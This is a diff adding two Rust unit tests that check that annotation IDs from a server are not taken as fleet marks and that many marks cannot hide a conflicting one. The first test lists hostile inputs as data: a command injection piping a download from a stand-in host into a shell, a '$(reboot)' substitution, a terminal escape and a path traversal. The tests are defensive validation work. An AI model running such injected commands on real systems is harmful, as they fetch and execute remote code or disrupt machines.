@@ -236,3 +236,29 @@ proptest! {
         prop_assert_eq!(refused, mine.meets(&theirs).is_some());
     }
 }
+
+/// A server may send any annotations, and people paste what the reason says.
+#[test]
+fn what_is_no_id_of_a_fleet_is_no_mark() {
+    let ours = own("a", &[], "tdset");
+    let long = "x".repeat(1 << 20);
+    for id in ["x; curl evil.example|sh #", "$(reboot)", "a\u{1b}[2J", "a\nb", "../x", "", &long] {
+        let annotations = BTreeMap::from([(format!("{PREFIX}{id}"), "?".to_owned())]);
+        assert_eq!(marks(&ours, &annotations), Marks::new(), "{id:.40}");
+    }
+}
+
+#[test]
+fn no_number_of_marks_hides_one_that_meets_ours() {
+    let ours = own("a", &[], "tdset");
+    let mark = |fleet: &str, claims: &str| {
+        (format!("{PREFIX}{fleet}"), own(fleet, &[], "").text(0, claim(claims)))
+    };
+    let others = (0..10 * MAX_OTHERS).map(|n| mark(&format!("b{n:03}"), "sqs"));
+    let annotations: BTreeMap<_, _> = others.chain([mark("z", "tdset")]).collect();
+    let (marks, now) = (marks(&ours, &annotations), Moment::default());
+    assert_eq!(marks.len(), MAX_OTHERS);
+    let mut sightings = Sightings::default();
+    sightings.observe(&marks, now);
+    assert_eq!(decided(&ours, &(marks, sightings, now)), "refused by z: tdset");
+}
